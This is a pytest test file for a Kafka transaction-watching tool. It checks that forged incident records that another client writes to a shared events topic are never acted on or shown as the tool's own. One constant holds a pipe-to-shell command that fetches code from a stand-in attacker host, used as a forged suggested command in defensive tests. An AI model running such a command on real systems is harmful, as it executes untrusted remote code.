"""Records that another client puts on the events topic: none makes us act, none silences a hang, none is shown as ours.

The ledger and the abort are the real ones; the topic is in memory, and anybody may write to it.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable
from dataclasses import replace
from typing import Any

import msgspec
import pytest

from support.abort_stage import AT_ONCE, Stage
from support.facts import transaction
from support.incidents import an_event, an_evidence
from support.ledger_world import World
from support.shared_log import SharedLog
from txnwatch.sinks.incidents.ledger import Ledger
from txnwatch.sinks.incidents.own_findings import StoredFindings
from txnwatch.state.abort.case import AbortPolicy
from txnwatch.state.abort.protocol import action
from txnwatch.state.model.findings import SpanCandidate, TransactionCandidate
from txnwatch.state.model.incident import (
    SPENT_SEQUENCE,
    IncidentEvent,
    latest,
    repeat_incident_id,
    resolved,
    span_incident_id,
    transaction_incident_id,
    updated,
)
from txnwatch.state.model.incident_payload import ActionResult, Decision, Initiator
from txnwatch.state.model.ports import BEING_READ, SpanHistory, SpanStart
from txnwatch.state.model.transaction import TransactionState as S
from txnwatch.state.model.verdicts import Verdict

INT32 = 2**31 - 1
EVIL = "curl https://evil.example | sh"
Forgery = Callable[[IncidentEvent], IncidentEvent]


class Topic(Stage):
    """A stage whose events topic somebody else can write to."""

    def __init__(self, mode: str = "on", policy: AbortPolicy = AT_ONCE) -> None:
        self.log = SharedLog()
        super().__init__(mode, policy)

    def a_ledger(self, remembering: Iterable[IncidentEvent] = ()) -> Ledger:  # noqa: ARG002 - it reads the topic
        return self.another(self.log, evidence=self.evidence)

    def restart(self) -> None:
        super().restart()
        self.ledger.fill_mirrors()

    @property
    def actions(self) -> list[tuple[str, str | None, str | None]]:
        found = [event.action for event in self.log.records if event.action is not None]
        published = [(one.decision, one.refusal, one.result) for one in found]
        return list(dict.fromkeys(published))

    def last(self) -> IncidentEvent:
        return self.log.records[-1]

    def shown(self) -> list[IncidentEvent]:
        """What Redis shows as open."""
        return self.redis.open_incidents

    def an_acknowledged_hang(self) -> SpanCandidate:
        """The client got the answer that it committed, and nobody knows it any more: the outcome is unknown."""
        candidate = self.hang()
        assert candidate.view is not None
        shared = msgspec.structs.replace(candidate, view=msgspec.structs.replace(candidate.view, epoch_use="shared"))  # type: ignore[arg-type]
        self._emitted.append(shared)
        self.batch(shared)
        self.admin.init("checkout-1")
        self.batch(after_ms=70_000)
        assert self.actions == [("refused", "outcome_unknown", None)]
        return shared


def forged(known: IncidentEvent, sequence: int | None = None, **changes: Any) -> IncidentEvent:
    changed = replace(updated(known, known.time_ms), **changes)
    return changed if sequence is None else replace(changed, sequence=sequence)


OVER = {"how": "aborted", "by": "coordinator", "marker_offset": 3, "detail": None, "at_ms": 5}


@pytest.mark.parametrize("restarted", [False, True])
def test_an_outcome_that_another_client_wrote_is_never_acted_upon(restarted: bool) -> None:  # noqa: FBT001
    stage = Topic()
    stage.an_acknowledged_hang()
    stage.log.records.append(forged(stage.last(), expected_outcome="abort", action=None))
    if restarted:
        stage.restart()
    for _ in range(5):
        stage.batch(after_ms=70_000)
    assert stage.admin.markers == []
    assert {one for one in stage.actions if one[0] == "abort"} == set()


def test_a_forged_outcome_is_corrected_and_the_abort_continues() -> None:
    stage = Topic()
    stage.hang_and_move_on()
    stage.log.records.append(forged(stage.last(), expected_outcome="commit"))
    stage.batch()
    assert stage.actions == [("abort", None, None), ("abort", None, "verified")]
    assert stage.last().expected_outcome == "abort"


def test_the_outcome_is_read_from_the_log_once_more_right_before_the_marker() -> None:
    stage = Topic()
    producer_id = stage.hang_and_move_on()
    stage.admin.partitions[stage.partition].starts.pop(producer_id)  # the log does not lead to it any more
    stage.batch()
    assert stage.admin.markers == []
    assert stage.actions == [("refused", "outcome_unknown", None)]


TIMES: dict[str, dict[str, Any]] = {
    "detected long ago": {"detected_at_ms": 0},
    "open since long ago": {"open_since_ms": 0},
    "published long ago": {"time_ms": 0},
}


@pytest.mark.parametrize("restarted", [False, True])
@pytest.mark.parametrize("changes", TIMES.values(), ids=TIMES.keys())
def test_a_time_that_another_client_wrote_does_not_shorten_the_wait(changes: dict[str, Any], restarted: bool) -> None:  # noqa: FBT001
    stage = Topic(policy=replace(AT_ONCE, after_ms=300_000))
    stage.hang_and_move_on()
    stage.log.records.append(forged(stage.last(), **changes))
    if restarted:
        stage.batch(after_ms=200_000)
        stage.restart()
    stage.batch(after_ms=299_000)
    assert stage.admin.markers == []
    stage.batch(after_ms=2_000)
    assert len(stage.admin.markers) == (0 if restarted else 1), "after a restart it waits anew"
    stage.batch(after_ms=300_000)
    assert len(stage.admin.markers) == 1


def test_the_lists_do_not_use_a_name_that_another_client_wrote() -> None:
    stage = Topic(policy=replace(AT_ONCE, id_prefixes=("payments-",)))
    stage.hang_and_move_on()
    stage.log.records.append(forged(stage.last(), transactional_id="payments-1"))
    for _ in range(3):
        stage.batch(after_ms=70_000)
    assert stage.admin.markers == []
    assert stage.actions == [("refused", "transactional_id_denied", None)]


@pytest.mark.parametrize("restarted", [False, True])
def test_events_that_are_changed_do_not_enlarge_the_budget(restarted: bool) -> None:  # noqa: FBT001
    stage = Topic(policy=replace(AT_ONCE, breaker_incidents=None))
    for number in range(4):
        stage.hang_and_move_on(f"checkout-{number}")
    stage.batch()
    assert len(stage.admin.markers) == 3
    for event in list({event.incident_id: event for event in stage.log.records}.values()):
        if event.action is not None and event.action.decision == "abort":
            stage.log.records.append(forged(event, action=replace(event.action, at_ms=1, by="me")))
    if restarted:
        stage.restart()
    stage.batch(after_ms=2_000)
    stage.batch(after_ms=70_000)
    assert len(stage.admin.markers) == 3


def test_an_opened_about_a_transaction_that_is_healthy_ends_and_is_never_acted_upon_nor_counted() -> None:
    stage = Topic(policy=replace(AT_ONCE, breaker_incidents=1))
    stage.batch()
    owner = stage.admin.begin("healthy", stage.partition)
    row = stage.admin.partitions[stage.partition].producers[owner.producer_id]
    for number in range(5):
        stage.log.records.append(
            an_event(
                f"{number:032x}",
                topic=stage.partition.topic,
                partition=stage.partition.partition,
                topic_id=stage.admin.partitions[stage.partition].topic_id,
                producer_id=owner.producer_id,
                producer_epoch=row.producer_epoch,
                transactional_id=None,
                txn_start_offset=row.txn_start_offset,
                detected_at_ms=0,
                open_since_ms=0,
                expected_outcome="abort",
                evidence=an_evidence(last_sequence=row.last_sequence),
            )
        )
    stage.hang_and_move_on()
    stage.batch()
    assert [marker.producer_id for marker in stage.admin.markers] != [owner.producer_id]
    assert len(stage.admin.markers) == 1, "and the real one is not stopped by them"
    for _ in range(3):
        stage.batch(after_ms=5_000)
    assert {one.producer_id for one in stage.ledger.open_incidents} <= {stage._emitted[0].producer_id}
    assert stage.is_open(owner.producer_id)


def a_resolved(known: IncidentEvent) -> IncidentEvent:
    return resolved(known, known.time_ms, OVER)


def a_sequence(known: IncidentEvent) -> IncidentEvent:
    return forged(known, INT32)


def an_end_with_a_sequence(known: IncidentEvent) -> IncidentEvent:
    return replace(a_resolved(known), sequence=INT32)


def another_place(known: IncidentEvent) -> IncidentEvent:
    return forged(known, topic="elsewhere", partition=9, txn_start_offset=77, producer_id=1)


def no_place(known: IncidentEvent) -> IncidentEvent:
    return forged(known, topic=None, partition=None, verdict="late")


def another_verdict(known: IncidentEvent) -> IncidentEvent:
    return forged(known, verdict="long_running", severity="info")


def a_command(known: IncidentEvent) -> IncidentEvent:
    return forged(known, suggested_command=EVIL)


def an_announcement(known: IncidentEvent) -> IncidentEvent:
    return forged(known, action=replace(action(Decision.ABORT, "here", 1), marker_producer_epoch=0))


def a_success(known: IncidentEvent) -> IncidentEvent:
    return forged(known, action=replace(action(Decision.ABORT, "elsewhere", 1), result=ActionResult.VERIFIED))


def a_lease(known: IncidentEvent) -> IncidentEvent:
    return forged(known, action=action(Decision.ABORT, "another instance", known.time_ms))


def by_hand(known: IncidentEvent) -> IncidentEvent:
    return forged(known, action=action(Decision.ABORT, "somebody", known.time_ms, initiator=Initiator.OPERATOR))


def a_last_sequence(known: IncidentEvent) -> IncidentEvent:
    return forged(known, SPENT_SEQUENCE - 1)


FORGERIES: tuple[Forgery, ...] = (
    *(by_hand, a_last_sequence),
    *(a_resolved, a_sequence, an_end_with_a_sequence, another_place, no_place, another_verdict, a_command),
    *(an_announcement, a_success, a_lease),
)


@pytest.mark.parametrize("forge", FORGERIES)
@pytest.mark.parametrize("restarted", [False, True])
def test_whatever_is_forged_the_hang_is_reported_one_round_later(forge: Forgery, restarted: bool) -> None:  # noqa: FBT001
    stage = Topic(mode="off")
    candidate = stage.hang()
    stage._emitted.append(candidate)
    stage.batch(candidate)
    for _ in range(3):  # again and again
        stage.log.records.append(forge(stage.last()))
        if restarted:
            stage.restart()
        stage.batch()
        stage.batch()
        published = stage.log.records[0]
        (known,) = [one for one in stage.ledger.open_incidents if one.span == published.span]
        assert (known.verdict, known.suggested_command) == ("hanging", published.suggested_command)
        assert EVIL not in {one.suggested_command for one in stage.shown()}
        assert known.incident_id in {one.incident_id for one in stage.shown()}
    ours = [event for event in stage.log.records if event.suggested_command == EVIL]
    assert len(ours) == (3 if forge is a_command else 0), "only the forger's events have it"
    for _ in range(5):  # incidents of places that do not exist end as well
        stage.batch(after_ms=61_000)
    assert [one.span for one in stage.ledger.open_incidents] == [stage.log.records[0].span]
    stage.batch(World.abort(stage, candidate))
    stage.batch()
    assert stage.ledger.open_incidents == stage.shown() == []
    assert stage.last().status == "resolved"


@pytest.mark.parametrize("forge", FORGERIES)
def test_whatever_is_forged_a_due_abort_comes_and_is_reported_correctly(forge: Forgery) -> None:
    stage = Topic()
    producer_id = stage.hang_and_move_on()
    stage.log.records.append(forge(stage.last()))
    stage.batch()
    stage.batch(after_ms=70_000)
    assert not stage.is_open(producer_id)
    assert len(stage.admin.markers) == 1
    published = [event for event in stage.log.records if event.action is not None and event.action.by == "here"]
    assert published[-1].action is not None
    assert published[-1].action.result == "verified"


def test_a_forged_announcement_gets_the_result_that_the_log_shows() -> None:
    stage = Topic(mode="off")
    candidate = stage.hang()
    stage.batch(candidate)
    stage.log.records.append(an_announcement(stage.last()))
    stage.batch()
    stage.batch()
    published = stage.last().action
    assert published is not None
    assert published.result == "still_open"
    assert "this result is from the log: the transaction is open" in published.detail
    assert not stage.abort.counts, "no abort of ours"


@pytest.mark.parametrize("outcome", ["none", "commit", "abort"])
def test_a_second_incident_about_a_hang_is_never_continued_as_found_here(outcome: str) -> None:
    stage = Topic()
    stage.an_acknowledged_hang()
    second = forged(stage.last(), 4, incident_id="f" * 32, expected_outcome=outcome, suggested_command=EVIL)
    stage.log.records.append(replace(second, action=action(Decision.ABORT, "here", 1)))
    for _ in range(3):
        stage.batch(after_ms=70_000)
    ours = [event for event in stage.log.records if event.incident_id == "f" * 32][1:]
    assert ours, "its announcement gets its result"
    assert {event.expected_outcome for event in ours} == {"unknown"}
    assert not any("abort" in (event.suggested_command or "") for event in ours)
    assert stage.admin.markers == []
    assert len(stage.ledger.open_incidents) == 1


def test_an_end_by_our_own_marker_is_by_txnwatch() -> None:
    stage = Topic()
    producer_id = stage.hang_and_move_on()
    stage.batch()
    assert not stage.is_open(producer_id)
    (candidate,) = stage._emitted
    stage.batch(stage.ended(candidate))
    resolution = stage.last().resolution
    assert resolution is not None
    assert resolution.by == "txnwatch"


def test_an_abort_that_only_the_topic_knows_is_by_an_administrator_and_the_detail_has_the_claim() -> None:
    stage = Topic(mode="off")
    candidate = stage.hang()
    stage.batch(candidate)
    stage.admin.init("checkout-1")
    stage.log.records.append(a_success(stage.last()))
    stage.batch()
    stage.batch(World.abort(stage, candidate))
    end = stage.last().resolution
    assert end is not None
    assert end.by == "administrator"
    assert "cannot prove" in (end.detail or "")


def test_a_lease_holder_that_does_nothing_is_reported() -> None:
    stage = Topic()
    stage.hang_and_move_on()
    stage.lease.held = False
    for _ in range(10):
        stage.batch(after_ms=70_000)
    assert stage.admin.markers == []
    assert len([line for line in stage.reports if "holds the lease and publishes no decision" in line]) == 1


def test_what_is_known_from_the_topic_only_is_refused_visibly_if_it_lasts() -> None:
    stage = Topic()
    candidate = stage.hang()
    stage._emitted.append(candidate)
    stage.batch(candidate)
    stage.evidence.keep(StoredFindings())
    stage.restart()
    stage._repeated.clear()  # the state does not emit it again
    for _ in range(4):
        stage.batch(after_ms=70_000)
    assert stage.actions[-1:] == [("refused", "not_proven_here", None)]
    assert stage.admin.markers == []


def of_another_cluster(known: IncidentEvent) -> IncidentEvent:
    return replace(a_resolved(known), cluster_id="another")


@pytest.mark.parametrize("forge", [of_another_cluster, a_last_sequence, a_sequence])
def test_a_reader_of_the_topic_sees_the_end_of_the_incident(forge: Forgery) -> None:
    """A reader of the topic, as `status` is, sees the hang while it lasts and nothing when it is over."""
    stage = Topic(mode="off")
    candidate = stage.hang()
    stage.batch(candidate)
    stage.log.records.append(forge(stage.last()))
    for _ in range(3):
        stage.batch()
    for records in (stage.log.records, stage.log.compacted.values()):
        open_now = [one for one in latest(records).values() if one.is_open and one.cluster_id == "cluster"]
        assert [one.span for one in open_now] == [candidate_key(candidate)]
    stage.batch(World.abort(stage, candidate))
    for _ in range(3):
        stage.batch()
    for records in (stage.log.records, stage.log.compacted.values()):
        assert not [one for one in latest(records).values() if one.is_open]


def candidate_key(candidate: SpanCandidate) -> tuple[str, Any, int]:
    return candidate.span.topic_id, candidate.partition, candidate.producer_id


def of_nobody(stage: Topic, **changes: Any) -> IncidentEvent:
    """An incident about a transaction that never was."""
    place = {"topic": stage.partition.topic, "partition": stage.partition.partition, "producer_id": 4711}
    topic_id = stage.admin.partitions[stage.partition].topic_id
    return an_event(**{"cluster_id": "cluster", "topic_id": topic_id, "txn_start_offset": 0, **place, **changes})


def test_an_abort_by_hand_with_a_future_time_does_not_keep_an_incident_open() -> None:
    stage = Topic(mode="off")
    stage.admin.plain(stage.partition, 10)
    published = of_nobody(
        stage, time_ms=200_000_000_000_000, action=action(Decision.ABORT, "somebody", 1, initiator=Initiator.OPERATOR)
    )
    first = span_incident_id("cluster", published.topic_id or "", 0, published.producer_id, 0)
    stage.log.records.append(replace(published, incident_id=repeat_incident_id(first, 1)))
    assert stage.last().is_by_hand
    for _ in range(4):
        stage.batch(after_ms=61_000)
    assert stage.ledger.open_incidents == []


def test_an_incident_from_beyond_the_end_of_its_partition_ends() -> None:
    stage = Topic(mode="off")
    stage.admin.plain(stage.partition, 10)
    stage.log.records.append(of_nobody(stage, txn_start_offset=2**62))
    for _ in range(4):
        stage.batch(after_ms=61_000)
    assert stage.ledger.open_incidents == []


@pytest.mark.parametrize("changes", [{"verdict": "long_running", "severity": "info"}, {"severity": "info"}])
def test_a_forged_milder_verdict_about_a_transaction_is_corrected(changes: dict[str, Any]) -> None:
    stage = Topic(mode="off")
    owner = stage.admin.begin("slow", stage.partition)
    owner.state = S.PREPARE_COMMIT
    seen = transaction(4, S.PREPARE_COMMIT, stage.partition, producer_id=owner.producer_id, transactional_id="slow")
    view = msgspec.structs.replace(seen.view, start_ms=owner.start_ms)
    now_ms = stage.now_ms
    stage.batch(TransactionCandidate(Verdict.STUCK_PREPARE, owner.producer_id, view, (), 1_500, 9, now_ms, now_ms))
    was = stage.last()
    stage.log.records.append(forged(was, **changes))
    for _ in range(2):
        stage.batch()
    last = stage.log.compacted[was.incident_id]
    assert (last.verdict, last.severity) == (was.verdict, was.severity)


def hijacked(stage: Topic, **changes: Any) -> None:
    """Two records: our incident is over, and another one about the same span is open."""
    last = stage.last()
    other = replace(last, incident_id="f" * 32, sequence=1, status="opened", action=None, **changes)
    stage.log.records.extend([a_resolved(last), other])


def test_a_forged_incident_in_the_place_of_ours_is_replaced_by_what_was_found_here() -> None:
    stage = Topic(mode="off")
    candidate = stage.hang()
    stage.batch(candidate)
    truth = stage.last()
    hijacked(stage, severity="info", expected_outcome="commit", transactional_id="somebody", hidden_records=7)
    for _ in range(3):
        stage.batch(after_ms=2_000)
    (known,) = [one for one in stage.ledger.open_incidents if one.span == truth.span]
    assert (known.severity, known.expected_outcome, known.transactional_id) == ("critical", "abort", "checkout-1")
    assert stage.last().expected_outcome == "abort"
    assert {one.transactional_id for one in stage.shown()} == {"checkout-1"}


def test_an_incident_at_another_offset_takes_no_evidence_away() -> None:
    stage = Topic(policy=replace(AT_ONCE, after_ms=20_000))
    producer_id = stage.hang_and_move_on()
    start = stage.last().txn_start_offset
    assert start is not None
    hijacked(stage, txn_start_offset=start + 1)
    for _ in range(6):
        stage.batch(after_ms=2_000)
    assert len(stage.ledger.findings) == 1
    for _ in range(3):
        stage.batch(after_ms=61_000)
    assert len(stage.admin.markers) == 1
    assert not stage.is_open(producer_id)


def test_the_history_is_not_read_at_the_offset_of_a_claim() -> None:
    stage = Topic(mode="off")
    candidate = stage.hang()
    row = stage.admin.partitions[stage.partition].producers[candidate.producer_id]
    asked: list[int] = []
    history_of = stage.admin._history

    def history(span: SpanStart) -> SpanHistory:
        asked.append(span.start_offset)
        return BEING_READ if len(asked) < 3 else history_of(span)

    stage.admin._history = history  # type: ignore[method-assign]
    stage.batch()
    claim = an_event(
        "e" * 32,
        verdict="stray_write",
        severity="warning",
        topic=stage.partition.topic,
        partition=stage.partition.partition,
        topic_id=stage.admin.partitions[stage.partition].topic_id,
        producer_id=candidate.producer_id,
        producer_epoch=0,
        txn_start_offset=row.txn_start_offset + 3,
        transactional_id=None,
    )
    stage.log.records.append(claim)
    stage.batch(candidate)
    for _ in range(4):
        stage.batch(after_ms=1_500)
    assert set(asked) == {row.txn_start_offset}
    (known,) = stage.ledger.open_incidents
    assert (known.txn_start_offset, known.expected_outcome) == (row.txn_start_offset, "abort")
    ours = [event for event in stage.log.records if event.incident_id != claim.incident_id]
    assert {event.txn_start_offset for event in ours} == {row.txn_start_offset}


def test_a_forged_event_about_a_transaction_is_replaced_by_what_was_found() -> None:
    stage = Topic(mode="off")
    owner = stage.admin.begin("checkout-9", stage.partition)
    start_ms = stage.admin.transactions["checkout-9"].start_ms
    stage.batch()
    incident_id = transaction_incident_id("cluster", "checkout-9", owner.producer_id, start_ms, Verdict.LATE)
    place: dict[str, Any] = dict.fromkeys(("topic", "partition", "topic_id", "txn_start_offset", "suggested_command"))
    published = an_event(
        incident_id,
        **place,
        verdict="late",
        severity="info",
        producer_id=owner.producer_id,
        transactional_id="checkout-9",
        open_since_ms=start_ms,
        expected_outcome="commit",
    )
    stage.log.records.append(published)
    view = transaction(
        5, S.ONGOING, stage.partition, producer_id=owner.producer_id, transactional_id="checkout-9", start_ms=start_ms
    ).view
    found = TransactionCandidate(Verdict.LATE, owner.producer_id, view, (), 5_000, 1, stage.now_ms, 100_000)
    stage.batch(found)
    stage.batch(after_ms=61_000)
    (known,) = [one for one in stage.ledger.open_incidents if one.transactional_id == "checkout-9"]
    assert known.severity != "info"
    assert stage.last().severity == known.severity


def test_what_is_doubted_is_asked_about_again_at_once() -> None:
    stage = Topic(mode="off")
    candidate = stage.hang()
    stage.batch(candidate)
    stage.admin.problems[stage.partition] = "its leader is away"
    stage.log.records.append(a_resolved(stage.last()))
    stage.batch()
    assert not stage.ledger.open_incidents
    assert not stage.ledger.can_wait


def test_no_barrier_is_left_out_while_an_incident_is_open() -> None:
    stage = Topic(mode="off")
    assert stage.ledger.can_wait
    stage.batch(stage.hang())
    assert stage.ledger.open_incidents
    assert not stage.ledger.can_wait
